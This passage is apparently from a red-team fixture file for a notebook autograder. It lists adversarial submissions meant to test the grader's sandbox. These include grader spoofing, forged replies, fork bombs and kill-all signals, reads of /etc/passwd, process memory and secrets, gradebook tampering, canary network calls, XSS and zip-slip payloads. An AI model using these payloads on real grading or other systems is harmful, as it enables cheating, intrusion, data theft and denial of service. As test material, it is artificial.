"""Submissions that try to gain points or to break out, and honest ones that make noise. Data for `python -m autograder attack`.

    attack(name, tries, source, answer)             an answer to sampling.gaussian; all other answers are blank
    attack(name, tries, source, hand_in=function)   function(folder, blank, right, course) writes a whole submission
    honest(name, tries, answer)                     a right answer to sampling.gaussian beside right answers to all others

An answer knows the constants COURSE, OUTSIDE (folders), TCP, UDP (ports of this machine that somebody listens on) and WORD (part
of a name for files). `harmless` ones may also run without a sandbox, to show that the canaries see an escape. `source` says where
the attack was published, or "own".
"""

# ruff: noqa: F821

KRATZKE = "Kratzke 2019, Smart like a Fox"
RELATE = "inducer/relate, issue 295"
NBGRADER = "jupyter/nbgrader, pull request 1324"
FACTS = "what stock nbgrader 0.9.6 did when it was tried"
OWN = "own"

HEAD = "def sample_gaussian(n, mean, cov, generator=None):\n"
WRONG = HEAD + "    return mean.repeat(n, 1)\n"
RIGHT = HEAD + "    return mean + torch.randn(n, len(mean), generator=generator) @ torch.linalg.cholesky(cov).T\n"


def body(code: str) -> str:
    """A function with this body."""
    return HEAD + "".join(f"    {line}\n" for line in code.strip("\n").splitlines())


def top(code: str) -> str:
    """This code at the top of the cell, and a wrong answer below it."""
    return code.strip("\n") + "\n" + WRONG


# ------------------------------------------------------------------------------------------- tricks with the answer

attack(
    "overfitting",
    "returns the numbers of the public key item",
    KRATZKE,
    body("""
from helpers.checks import public_items
item = public_items()["sampling.gaussian"]
return mean.new_tensor(item["properties"][0]["inputs"].get("mean", [0.0, 0.0])).repeat(n, 1)
"""),
)
attack("overfitting-constant", "returns a constant of the right shape", KRATZKE, body("return torch.zeros(n, len(mean))"))
attack(
    "evasion",
    "leaves quietly when it is graded",
    KRATZKE,
    body("""
import os, sys
if os.environ.get("NBGRADER_EXECUTION"):
    sys.exit(0)
"""),
)
attack(
    "redirection",
    "looks for the reference in modules, frames and objects, and calls it",
    KRATZKE,
    body("""
import gc, inspect, types
for o in gc.get_objects():
    if isinstance(o, types.FunctionType) and o.__name__ == "sample_gaussian" and o.__code__ is not inspect.currentframe().f_code:
        return o(n, mean, cov, generator)
return mean.repeat(n, 1)
"""),
)
attack(
    "redirection-source",
    "takes the reference's source from the request in the frames above",
    KRATZKE,
    body("""
import sys
frame, mine = sys._getframe(), sys._getframe().f_code
while frame:
    for value in frame.f_locals.values():
        if isinstance(value, dict) and "cells" in value:
            for origin, source in value["cells"]:
                if "def sample_gaussian" in source and origin != "answer":
                    space = {"torch": torch}
                    exec(source, space)
                    return space["sample_gaussian"](n, mean, cov, generator)
    frame = frame.f_back
return mean.repeat(n, 1)
"""),
)
attack(
    "injection",
    "prints what a grader's output looks like",
    KRATZKE,
    body("""
print("Grade :=>> 100"); print("3.0"); print('{"score": 3, "passed": true}')
return mean.repeat(n, 1)
"""),
)
attack(
    "displayhook",
    "calls and replaces sys.displayhook",
    FACTS,
    top("import sys\nsys.displayhook(3.0)\nsys.displayhook = lambda *_: None"),
)
attack(
    "equals-everything",
    "returns an object that equals and exceeds everything",
    FACTS,
    top("""
class Yes(float):
    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda *_: True
    __ne__ = lambda *_: False
    __sub__ = __rsub__ = __abs__ = lambda self, *_: self
    __hash__ = None
""").replace("return mean.repeat(n, 1)", "return Yes()"),
)
attack(
    "evil-numpy-scalar",
    "returns a subclass of a numpy type that lies in comparisons",
    RELATE,
    body("""
import numpy as np
class Evil(np.ndarray):
    def __abs__(self): return self * 0
    def __rsub__(self, o): return self * 0
    def __sub__(self, o): return self * 0
    def __lt__(self, o): return np.ones(self.shape, bool)
    __le__ = __gt__ = __ge__ = __eq__ = __lt__
return mean.repeat(n, 1).numpy().view(Evil)
"""),
)
attack("history", "reads the last input of the notebook", FACTS, body("return eval(get_ipython().user_ns['In'][-1])"))
attack(
    "traceback",
    "silences errors in the kernel",
    NBGRADER,
    top("""
import IPython.core.interactiveshell
IPython.core.interactiveshell.InteractiveShell.showtraceback = lambda *args, **kwargs: None
"""),
)
attack(
    "input-transformer",
    "rewrites the cells that follow",
    FACTS,
    top("""
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
import IPython.core.inputtransformer2 as t
t.TransformerManager.transform_cell = lambda self, cell: "pass\\n"
"""),
)
attack(
    "redefines-check",
    "defines its own check",
    OWN,
    top("""
import builtins
builtins.check = check = lambda *_, **__: None
"""),
)
attack(
    "patched-probes",
    "replaces the probe and what it uses",
    OWN,
    top("""
import helpers.probes as p
p.PROBES["sampling.gaussian"] = lambda case, f: torch.distributions.Normal(0., 1.).sample((10, 2))
p.to_array = lambda result: 1.0
p.observe = lambda *_: {}
"""),
)
attack(
    "patched-judge",
    "replaces the judge",
    OWN,
    top("""
import helpers.judge as j
j.judge_property = lambda *_: (True, "")
j.judge = lambda task, *_, **__: j.Verdict(task, True)
"""),
)
attack(
    "patched-numpy",
    "replaces numpy's and torch's comparisons and random numbers",
    OWN,
    top("""
import numpy as np
np.asarray = np.allclose = lambda *_, **__: True
np.isfinite = lambda *_: np.bool_(True)
torch.manual_seed = lambda *_: None
"""),
)
attack(
    "patched-pack",
    "replaces what writes the reply",
    OWN,
    top("""
import helpers.arrays as a, json, sys
main = sys.modules["__main__"]
main.pack = a.pack = lambda *_: json.dumps({"passed": True, "points": 3}).encode() + b"\\n"
"""),
)
attack(
    "tensor-subclass",
    "returns a tensor whose methods lie",
    OWN,
    top("""
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None): return True
    def detach(self): return self
    def cpu(self): return self
    def double(self): return self
    def numpy(self): return Yes()
class Yes:
    shape = (10_000, 2)
    def __array__(self, *_, **__): raise SystemExit
""").replace("return mean.repeat(n, 1)", "return Liar(mean)"),
)
attack(
    "array-method",
    "returns an object whose __array__ runs code",
    OWN,
    top("""
class A(list):
    def __array__(self, *_, **__):
        import sys; sys.stdout.write("3.0"); return __import__("numpy").full((1 << 28,), 1.0)
    def __len__(self): return 1 << 60
""").replace("return mean.repeat(n, 1)", "return A()"),
)
attack(
    "pickled-code",
    "returns an object that would run code where it is unpickled",
    OWN,
    top(r"""
class P:
    def __reduce__(self): return (open, (f"{OUTSIDE}/escape-{WORD}-pickle", "w"))
    def detach(self): return self
""").replace("return mean.repeat(n, 1)", "return P()"),
)
attack("nan", "returns NaN, which no comparison calls wrong", FACTS, body("return torch.full((n, len(mean)), float('nan'))"))
attack("infinite", "returns infinities", OWN, body("return torch.full((n, len(mean)), float('inf'))"))
attack("minus-one", "returns -1, which stock nbgrader took for full marks", FACTS, body("return -1"))
attack("nothing", "has no answer cell at all, only a comment", FACTS, "# nothing to see here")
attack("complex", "returns complex numbers, strings and ragged lists", OWN, body("return [[1j, 'x'], [float('nan')]]"))
attack(
    "changes-inputs",
    "changes the inputs in place so that they fit the answer",
    OWN,
    body("cov.zero_(); mean.zero_(); return mean.repeat(n, 1)"),
)
attack(
    "late-thread",
    "goes on in a thread after the answer",
    OWN,
    top("""
import threading, time, os
def later():
    while True:
        time.sleep(0.01)
        for fd in range(3, 64):
            try: os.write(fd, b"x" * 10)
            except OSError: pass
threading.Thread(target=later, daemon=True).start()
"""),
)
attack(
    "atexit",
    "runs code at the end of the process",
    OWN,
    top("""
import atexit, weakref
atexit.register(lambda: open(f"{OUTSIDE}/escape-{WORD}-atexit", "w"))
weakref.finalize(torch, lambda: open(f"{OUTSIDE}/escape-{WORD}-finalize", "w"))
"""),
    harmless=True,
)
attack(
    "shadow-written",
    "writes modules that shadow others into its folder",
    OWN,
    top("""
for name in ("numpy", "json", "struct", "helpers", "signal"):
    open(f"{name}.py", "w").write("raise SystemExit(0)")
import importlib, sys
sys.path.insert(0, ".")
importlib.invalidate_caches()
for name in list(sys.modules):
    if name.split(".")[0] in ("json", "struct"): del sys.modules[name]
"""),
)
attack(
    "import-hook",
    "puts a hook before all imports",
    OWN,
    top("""
import sys
class Hook:
    def find_spec(self, *_): raise SystemExit(0)
sys.meta_path.insert(0, Hook())
sys.modules["helpers.judge"] = sys.modules["autograder"] = None
"""),
)
attack(
    "exception-text",
    "raises an exception whose text takes forever",
    OWN,
    body("""
class Slow(Exception):
    def __str__(self):
        while True: pass
raise Slow
"""),
)
attack("exception-huge", "raises an exception with a gigabyte of text", OWN, body("raise ValueError('x' * 1_000_000_000)"))
attack(
    "property-names",
    "answers with a dictionary that names the properties itself",
    OWN,
    body("return {'passed': True, 'value': mean}"),
)
attack(
    "no-time-limit",
    "switches the time limit off and computes forever",
    OWN,
    body("""
import signal
signal.setitimer(signal.ITIMER_PROF, 0); signal.setitimer(signal.ITIMER_REAL, 0)
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True: pass
"""),
)

# ------------------------------------------------------------------------------------------------------ forged replies

FORGE = """
import os, json, struct, socket, stat
names = [p["name"] for f in FRAMES for p in f.get("item", {}).get("properties", [])]
def sockets():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode): yield fd
        except OSError: pass
def send(reply, framed=True):
    for fd in sockets(): os.write(fd, (struct.pack("<Q", len(reply)) if framed else b"") + reply)
def forged(names, value=0.0, shape=(10_000, 2)):
    size = shape[0] * shape[1]
    return json.dumps({name: {"shape": shape} for name in names}).encode() + b"\\n" + struct.pack("<d", value) * size * len(names)
"""
FRAMES = """
import sys
FRAMES, frame = [], sys._getframe()
while frame:
    FRAMES.append(dict(frame.f_locals)); frame = frame.f_back
"""
for name, tries, code in (
    ("forged-zeros", "writes a well-formed reply of zeros for all properties", "send(forged(set(names))); os._exit(0)"),
    ("forged-nan", "writes a reply of NaN", "send(forged(set(names), float('nan'))); os._exit(0)"),
    ("forged-twice", "writes a forged reply and lets the real one follow", "send(forged(set(names)))"),
    ("forged-names", "writes a reply for other properties", "send(forged(['a', 'b'])); os._exit(0)"),
    ("forged-passed", "writes a reply that claims to have passed", "send(json.dumps({'passed': True, 'wrong': []}).encode()); os._exit(0)"),
    ("forged-garbage", "writes garbage", "send(os.urandom(1000)); os._exit(0)"),
    ("forged-deep", "writes deeply nested JSON", "send(b'[' * 900_000); os._exit(0)"),
    ("forged-shape", "announces more numbers than it sends, in absurd shapes", "send(json.dumps({n: {'shape': [10**30, -1, 0]} for n in names}).encode() + b'\\n'); os._exit(0)"),
    ("forged-huge", "announces and sends more bytes than there is memory", "send(struct.pack('<Q', 1 << 62), False)\nwhile True: send(bytes(1 << 20), False)"),
    ("forged-stale", "sends far more than one reply, for whoever comes next", "send(forged(set(names)) * 1)\nfor _ in range(50): send(forged(set(names)))\nos._exit(0)"),
    ("forged-descriptor", "sends an open file instead of bytes", "for fd in sockets(): socket.send_fds(socket.socket(fileno=fd), [b'12345678'], [os.open('/', os.O_RDONLY)])\nos._exit(0)"),
):  # fmt: skip
    attack(name, tries, OWN, body(FRAMES + FORGE + code + "\nreturn mean.repeat(n, 1)"))

# ------------------------------------------------------------------------------------------------------ deaths and hunger

for name, tries, code in (
    ("exit", "ends the process", "import os; os._exit(0)"),
    ("interrupt", "raises KeyboardInterrupt", "raise KeyboardInterrupt"),
    ("segfault", "crashes the interpreter", "import ctypes; ctypes.string_at(0)"),
    ("abort", "aborts", "import os; os.abort()"),
    ("stop", "stops itself and its children", "import os, signal\nif os.fork() == 0: os.kill(os.getpid(), signal.SIGSTOP)\nos.kill(os.getpid(), signal.SIGSTOP)"),
    ("kill-all", "kills all processes that it may kill", "import os, signal; os.kill(-1, signal.SIGKILL)"),
    ("kill-parent", "kills its parent and the processes around it", "import os, signal\nfor pid in [os.getppid(), *range(2, 2000)]:\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError: pass"),
    ("loop", "computes forever", "while True: pass"),
    ("loop-stubborn", "catches every exception and goes on", "while True:\n    try:\n        while True: pass\n    except BaseException: pass"),
    ("loop-in-c", "computes in C, where no signal handler runs", "import collections, itertools\ncollections.deque(itertools.repeat(0), maxlen=0)"),
    ("sleep-deaf", "blocks all signals and sleeps", "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())\ntime.sleep(10_000)"),
    ("recursion", "calls itself forever", "import sys\nsys.setrecursionlimit(10**9)\nreturn sample_gaussian(n, mean, cov)"),
    ("fork-bomb", "forks as fast as it can", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    ("thread-bomb", "starts threads as fast as it can", "import threading, time\nwhile True:\n    try: threading.Thread(target=time.sleep, args=(100,)).start()\n    except RuntimeError: pass"),
    ("memory", "takes memory without end", "x = []\nwhile True: x.append(bytearray(100_000_000))"),
    ("memory-shared", "takes shared memory, which usual limits do not count", "import mmap\nx = []\nwhile True:\n    m = mmap.mmap(-1, 1 << 28)\n    for i in range(0, 1 << 28, 4096): m[i] = 1\n    x.append(m)"),
    ("memory-programs", "thirty programs that take little memory each", "import os, sys, time\nfor k in range(30):\n    if os.fork() == 0: os.execv(sys.executable, [sys.executable, '-c', 'import time; x = bytearray(190_000_000); time.sleep(60)'])\ntime.sleep(60)"),
    ("memory-tables", "makes the kernel's page tables enormous", "import mmap, numpy\nx = mmap.mmap(-1, 1 << 42, flags=mmap.MAP_PRIVATE | 0x4000, prot=mmap.PROT_READ)\nwhile True: numpy.frombuffer(x, dtype=numpy.uint8)[:: 1 << 21].sum()"),
    ("memory-files", "files in memory that no limit of a disk counts", "import os\nwhile True: os.write(os.memfd_create('x'), bytes(60_000_000))"),
    ("memory-tensor", "makes an enormous tensor", "return torch.zeros(1 << 40)"),
    ("many-numbers", "returns a hundred million numbers", "return torch.zeros(100_000_000)"),
    ("disk", "fills its folder", "i = 0\nwhile True:\n    i += 1\n    open(f'{i}', 'wb').write(bytes(30_000_000))"),
    ("disk-elsewhere", "fills shared memory and other writable places", "import os\nfor place in ('/dev/shm', '/var/tmp', '/run', OUTSIDE):\n    for i in range(20):\n        try: open(f'{place}/escape-{WORD}-{i}', 'wb').write(bytes(30_000_000))\n        except OSError: pass\nreturn mean.repeat(n, 1)"),
    ("inodes", "makes files without end", "i = 0\nwhile True:\n    i += 1\n    open(f'{i}', 'w')"),
    ("descriptors", "opens files without end", "x = []\nwhile True: x.append(open('/dev/null'))"),
    ("half-a-character", "raises a text that no file can hold", "raise ValueError('a\\ud800b \\x1b[31m')"),
    ("our-own-names", "raises what the grader itself would say of a late answer", "class TimeLimit(Exception): pass\nraise TimeLimit(repr(mean.tolist()))"),
    ("tracer", "makes the process that started it its tracer", "import ctypes, os, signal\nctypes.CDLL(None).ptrace(0, 0, 0, 0)\nos.kill(os.getpid(), signal.SIGUSR1)"),
    ("keyring", "plants a keyring in the process that started it", "import ctypes\nlibc, c = ctypes.CDLL(None), ctypes.c_long\nfor call in ((250, 1, 0), (248, b'user', b'leak', b'x', 1, -3), (250, 18)):\n    libc.syscall(*[c(x) if isinstance(x, int) else x for x in call])\nreturn mean.repeat(n, 1)"),
    ("flood", "writes to stdout and stderr without end", "import os\nwhile True:\n    print('x' * 100_000); os.write(1, b'x' * 100_000); os.write(2, b'x' * 100_000)"),
):  # fmt: skip
    attack(name, tries, OWN, body(code))

# ------------------------------------------------------------------------------------------------- reading what it must not

for name, tries, code in (
    ("read-secret", "reads the course's secret", "text = open(f'{COURSE}/course.secret').read()"),
    ("read-gradebook", "reads the gradebook", "text = open(f'{COURSE}/gradebook.db', 'rb').read()[:15].decode() + open(f'{COURSE}/canary').read()"),
    ("read-submission", "reads another student's submission", "text = open(f'{COURSE}/submitted/a-victim/01_sampling/canary').read()"),
    ("read-outside", "reads a file beside the course", "text = open(f'{OUTSIDE}/canary').read()"),
    ("read-by-link", "makes a link in its folder and reads through it", "import os\nos.symlink(f'{OUTSIDE}/canary', 'innocent')\ntext = open('innocent').read()"),
    ("read-upwards", "climbs out of its folder", "text = open('../' * 20 + f'{OUTSIDE}/canary').read()"),
    ("read-environment", "reads the grader's environment", "import os\ntext = os.environ['CANARY']"),
    ("read-shell", "asks a shell", "import subprocess\ntext = subprocess.run(['/bin/sh', '-c', f'cat {OUTSIDE}/canary; echo $CANARY'], capture_output=True, text=True).stdout"),
):  # fmt: skip
    attack(name, tries, OWN, body(code + "\nraise RuntimeError(text)"), harmless=True)
for name, tries, code in (
    ("read-passwd", "reads the system's users", "text = open('/etc/passwd').read()"),
    ("read-proc", "reads environments and arguments of other processes", "import glob\ntext = ''.join(open(f, errors='replace').read() for f in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'))\ntext = text[max(0, text.find('CANARY')):]"),
    ("read-home", "lists and reads home folders", "import os, glob\nfound = glob.glob(os.path.dirname(COURSE) + '/*') + glob.glob('/home/*')\ntext = 'home: ' * bool(found) + ' '.join(found)"),
):  # fmt: skip
    attack(name, tries, OWN, body(code + "\nraise RuntimeError(text)"))
attack(
    "import-keys",
    "imports the closed forms and the keys of the secret items",
    OWN,
    body("""
from autograder import expected, keys
raise RuntimeError(str(keys.secret_item("sampling.gaussian", 0)))
"""),
)
attack(
    "import-solutions",
    "executes the solution",
    OWN,
    body("""
source = open(f"{COURSE}/solutions/01_sampling/01_sampling.py").read()
start = source.index("def sample_gaussian")
space = {"torch": torch}
exec(source[start:source.index("# %%", start)], space)
return space["sample_gaussian"](n, mean, cov, generator)
"""),
    harmless=True,
)
attack(
    "parent-memory",
    "reads the memory of the process that it was forked from",
    OWN,
    body("""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1, 2, 3, 4):
    if pid and pid != os.getpid():
        libc.ptrace(16, pid, 0, 0)
        open(f"/proc/{pid}/mem", "rb").read(1)
        raise RuntimeError("home: the memory of another process")
return mean.repeat(n, 1)
"""),
)
attack(
    "own-memory",
    "searches its memory for the reference answer of an earlier request",
    OWN,
    body("""
import ctypes, gc, re
libc = ctypes.CDLL(None)
libc.sbrk.restype = ctypes.c_void_p
page = 1 << 16
buffer = ctypes.create_string_buffer(page)
todo, seen = [libc.sbrk(0) // page * page, *{id(o) // page * page for o in gc.get_objects()}], set()
pattern = re.compile(rb"factor = torch.linalg.cholesky.cov.(?:..|.)    z = torch.randn.n, len.mean.", re.S)
while todo:
    start = todo.pop()
    if start in seen: continue
    seen.add(start)
    here, there = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), page), (ctypes.c_uint64 * 2)(start, page)
    count = libc.process_vm_readv(1, here, 1, there, 1, 0)
    if count > 0:
        if pattern.search(buffer.raw[:count]):
            return mean + torch.randn(n, len(mean), generator=generator) @ torch.linalg.cholesky(cov).T
        todo += [start - page, start + page]
return mean.repeat(n, 1)
"""),
)

# ------------------------------------------------------------------------------------------------ writing and getting out

for name, tries, code in (
    ("write-outside", "writes beside the course", "open(f'{OUTSIDE}/escape-{WORD}', 'w').write('x')"),
    ("write-course", "writes into the course", "open(f'{COURSE}/escape-{WORD}', 'w').write('x')"),
    ("write-submission", "adds a file to another student's submission", "open(f'{COURSE}/submitted/a-victim/escape-{WORD}', 'w').write('x')"),
    ("write-gradebook", "sets its score in the gradebook", "import sqlite3\nwith sqlite3.connect(f'{COURSE}/gradebook.db') as db: db.execute('update grade set auto_score = 3, manual_score = 3')\nopen(f'{COURSE}/escape-{WORD}', 'w')"),
    ("tcp", "connects to a port of this machine", "import socket\nsocket.create_connection(('127.0.0.1', TCP), 2).sendall(WORD.encode())"),
    ("udp", "sends a packet", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(WORD.encode(), ('127.0.0.1', UDP))"),
    ("http", "opens a web page", "import urllib.request\nurllib.request.urlopen(f'http://127.0.0.1:{TCP}/{WORD}', timeout=2)"),
    ("unix-socket", "connects to a socket without a file", "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0canary-' + WORD.split('-')[0])"),
    ("subprocess", "lets another program do it", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', f\"open('{OUTSIDE}/escape-{WORD}', 'w')\"])"),
    ("daemon", "leaves a process behind that acts later", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(1.5)\n        open(f'{OUTSIDE}/escape-{WORD}', 'w')\n        os._exit(0)\n    os._exit(0)"),
):  # fmt: skip
    attack(name, tries, OWN, body(code + "\nreturn mean.repeat(n, 1)"), harmless=True)
for name, tries, code in (
    ("write-packages", "changes installed packages", "import torch, numpy\nfor m in (torch, numpy):\n    open(m.__file__, 'a').write('# escape')\n    open(f'{OUTSIDE}/escape-{WORD}', 'w')"),
    ("write-helpers", "changes the course's helpers", "import helpers\nopen(helpers.__file__, 'a').write('# escape')\nopen(f'{OUTSIDE}/escape-{WORD}', 'w')"),
    ("become-root", "tries to get rights back", "import os, ctypes\nlibc = ctypes.CDLL(None)\nlibc.prctl(38, 0, 0, 0, 0)\nfor call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot('/')):\n    try: call(); raise RuntimeError('home: root')\n    except PermissionError: pass\n    except OSError: pass"),
    ("unmount", "takes the mounts off that cover /proc and its folder", "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.unshare(0x10000000 | 0x20000)\nfor place in (b'/proc', b'/tmp', b'/scratch', b'/', b'/dev/shm'):\n    if libc.umount2(place, 2) == 0: raise RuntimeError('home: unmounted')\nimport os\nif os.listdir('/proc'): raise RuntimeError('home: proc')"),
    ("mount", "mounts the disk or /proc again", "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.unshare(0x10000000 | 0x20000)\nif libc.mount(b'proc', b'/scratch', b'proc', 0, None) == 0: raise RuntimeError('home: mounted')"),
    ("devices", "opens disks and memory", "import os\nfor d in ('/dev/mem', '/dev/kmem', '/dev/sda', '/dev/vda', '/dev/kvm', '/dev/fuse'):\n    if os.path.exists(d): raise RuntimeError('home: ' + d)"),
):  # fmt: skip
    attack(name, tries, OWN, body(code + "\nreturn mean.repeat(n, 1)"))

# ------------------------------------------------------------------------------------------------ the notebook and its file


def notebook(change):
    """A submission made by changing a notebook with a wrong answer."""

    def hand_in(folder, blank, right, course):
        import nbformat

        for cell in blank.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == "sampling-gaussian":
                cell.source = WRONG
        result = change(blank)
        text = result if isinstance(result, (str, bytes)) else nbformat.writes(blank)
        (folder / "01_sampling.ipynb").write_bytes(text if isinstance(text, bytes) else text.encode())

    return hand_in


def checks(blank):
    """The check cells of a notebook."""
    return [c for c in blank.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade")]


def _each_check(**changes):
    def change(blank):
        for cell in checks(blank):
            for key, value in changes.items():
                cell[key] = value

    return change


def _metadata(**changes):
    def change(blank):
        for cell in blank.cells:
            if "nbgrader" in cell.metadata:
                cell.metadata.nbgrader.update(changes)

    return change


def _passed_outputs(blank):
    import nbformat

    for cell in checks(blank):
        cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": "3.0"}, execution_count=1)]
        cell.metadata.nbgrader["score"] = 3.0
    blank.metadata["diffusion_labs"] = {
        "notes": ["Full marks, please."],
        "verdicts": {"sampling.gaussian": {"passed": True}},
    }


def _duplicates(blank):
    import copy

    blank.cells += [copy.deepcopy(cell) for cell in checks(blank)]


def _live(blank):
    import nbformat

    remote = (
        '<img src="http://canary.invalid/x.png"><script>alert("escape")</script><iframe src="//canary.invalid"></iframe>'
    )
    blank.cells.append(nbformat.v4.new_markdown_cell(remote + '<a href="javascript:alert(1)" onclick="alert(1)">x</a>'))
    blank.cells.append(nbformat.v4.new_markdown_cell("![x](http://canary.invalid/y.png) [y](javascript:alert(1))"))
    blank.cells.append(
        nbformat.v4.new_markdown_cell("<style>@import url(//canary.invalid)</style><svg onload=alert(1)></svg>")
    )
    code = nbformat.v4.new_code_cell("# </pre><script>alert(1)</script>")
    code.outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": remote}),
        nbformat.v4.new_output("display_data", data={"application/javascript": "alert(1)"}),
        nbformat.v4.new_output("display_data", data={"image/png": '"><script>alert(1)</script>'}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": "<svg onload='alert(1)'/>"}),
        nbformat.v4.new_output("stream", name="stdout", text=remote),
        nbformat.v4.new_output(
            "display_data", data={"image/png": "iVBORw0KGgo="}, metadata={"filenames": {"image/png": "../../../canary"}}
        ),
    ]
    blank.cells.append(code)


def _deep(blank):
    return b'{"nbformat": 4, "metadata": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b', "cells": []}'


def _deep_metadata(blank):
    import json

    import nbformat

    raw = json.loads(nbformat.writes(blank))
    value = {}
    for _ in range(900):
        value = {"a": value}
    raw["metadata"]["deep"] = raw["cells"][0]["metadata"]["deep"] = value
    raw["cells"][1]["source"] = "x = " + "(" * 150 + ")" * 150 + "+1" * 3000
    return json.dumps(raw)


def _strange_types(blank):
    import json

    import nbformat

    raw = json.loads(nbformat.writes(blank))
    raw["nbformat"], raw["metadata"] = "four", [1]
    for number, cell in enumerate(raw["cells"]):
        cell["id"] = ["x", 3, None, {}][number % 4]
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"]["grade_id"] = [cell["metadata"]["nbgrader"]["grade_id"]]
        cell["metadata"]["tags"] = "added"
        cell["outputs"] = {"a": 1}
        if number % 5 == 0:
            cell["source"] = {"not": "text \ud800"}
    return json.dumps(raw)


for name, tries, change in (
    ("tag-skip-execution", "tags all cells to be skipped", lambda blank: [c.metadata.update(tags=["skip-execution"]) for c in blank.cells] and None),
    ("checks-edited", "writes its own checks into the check cells", _each_check(source="print('right')\n3.0")),
    ("checks-emptied", "empties the check cells: no output is full marks in stock nbgrader", _each_check(source="")),
    ("checks-as-text", "makes the check cells text", lambda blank: str(__import__("nbformat").writes(blank)).replace('"cell_type": "code"', '"cell_type": "markdown"')),
    ("checks-deleted", "deletes the check cells", lambda blank: [blank.cells.remove(c) for c in checks(blank)] and None),
    ("checks-duplicated", "has all check cells twice, which stopped stock nbgrader for the whole class", _duplicates),
    ("more-points", "raises the points in the metadata", _metadata(points=1000)),
    ("flags", "changes what is locked, graded and a solution", _metadata(grade=False, solution=True, locked=False, task=True)),
    ("schema", "claims another version of nbgrader's metadata", _metadata(schema_version=99)),
    ("stale-outputs", "hands in outputs, scores, notes and verdicts of its own", _passed_outputs),
    ("live-feedback", "puts scripts and remote pictures into text and outputs", _live),
    ("deep-json", "nests JSON a hundred thousand times", _deep),
    ("deep-metadata", "nests metadata and brackets nine hundred times", _deep_metadata),
    ("strange-types", "puts lists where text belongs, and halves of characters into text", _strange_types),
    ("many-cells", "has a hundred thousand cells", lambda blank: '{"nbformat": 4, "metadata": {}, "cells": [' + ",".join(['{"cell_type": "code", "source": "x"}'] * 100_000) + "]}"),
    ("banners", "claims a TODO banner thousands of times in one cell", lambda blank: blank.cells.append(__import__("nbformat").v4.new_code_cell("# TODO sampling.mixture\n" * 7000))),
    ("not-a-notebook", "hands in something else under the notebook's name", lambda blank: bytes(range(256)) * 1000),
    ("empty-file", "hands in an empty file", lambda blank: b""),
):  # fmt: skip
    attack(name, tries, FACTS if name.startswith(("tag", "checks", "stale", "flags")) else OWN, hand_in=notebook(change))


def file(make):
    """A submission made by a function of (its folder, path of the notebook in it, another student's folder, the course)."""

    def hand_in(folder, blank, right, course):
        make(folder, folder / "01_sampling.ipynb", course / "submitted" / "a-victim" / "01_sampling", course)

    return hand_in


def _with_blank(make):
    def hand_in(folder, blank, right, course):
        import nbformat

        nbformat.write(blank, folder / "01_sampling.ipynb")
        make(folder, course)

    return hand_in


def _link_folder(folder, path, victim, course):
    folder.rmdir()
    folder.symlink_to(victim)


def _shadows(folder, course):
    for name in ("torch", "numpy", "helpers", "sitecustomize", "nbgrader", "bleach"):
        (folder / f"{name}.py").write_text(
            f"open({str(course.parent / 'outside' / 'escape-shadow')!r}, 'w'); raise SystemExit(0)"
        )


def _links_beside(folder, course):
    (folder / "innocent.txt").symlink_to(course / "course.secret")
    (folder / "folder").symlink_to(course)
    (folder / "timestamp.txt").symlink_to(course.parent / "outside" / "canary")


def _pipes_beside(folder, course):
    import os

    os.mkfifo(folder / "data.csv")
    os.mkfifo(folder / "timestamp.txt")


def _bomb(folder, course):
    import zipfile

    with zipfile.ZipFile(folder / "pictures.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../../escape-zip", bytes(200_000_000))


def _two_copies(folder, path, victim, course):
    for name in ("a.ipynb", "b.ipynb"):
        (folder / name).write_text("{}")


def _huge(folder, path, victim, course):
    with path.open("wb") as stream:
        stream.truncate(60_000_000_000)


for name, tries, make in (
    ("link", "hands in a link to another student's notebook", lambda folder, path, victim, course: path.symlink_to(victim / "01_sampling.ipynb")),
    ("link-folder", "hands in a folder that is a link to another student's", _link_folder),
    ("link-secret", "hands in a link to the course's secret as notebook", lambda folder, path, victim, course: path.symlink_to(course / "course.secret")),
    ("hard-link", "hands in a hard link to a notebook outside the course", lambda folder, path, victim, course: path.hardlink_to(course.parent / "outside" / "01_sampling.ipynb")),
    ("misnamed-link", "hands in a link under another name", lambda folder, path, victim, course: (folder / "Copy.ipynb").symlink_to(victim / "01_sampling.ipynb")),
    ("pipe", "hands in a pipe, which blocks whoever opens it", lambda folder, path, victim, course: __import__("os").mkfifo(path)),
    ("endless-device", "hands in a link to a device without end", lambda folder, path, victim, course: path.symlink_to("/dev/zero")),
    ("folder-as-notebook", "hands in a folder with the notebook's name", lambda folder, path, victim, course: path.mkdir()),
    ("two-notebooks", "hands in two notebooks, neither under the right name", _two_copies),
    ("huge-notebook", "hands in a notebook of sixty gigabytes", _huge),
):  # fmt: skip
    attack(name, tries, OWN, hand_in=file(make))
for name, tries, make in (
    ("shadow-files", "hands in modules that shadow installed ones", _shadows),
    ("links-beside", "hands in links to secrets beside the notebook, to be copied into the feedback", _links_beside),
    ("pipes-beside", "hands in pipes beside the notebook and as timestamp", _pipes_beside),
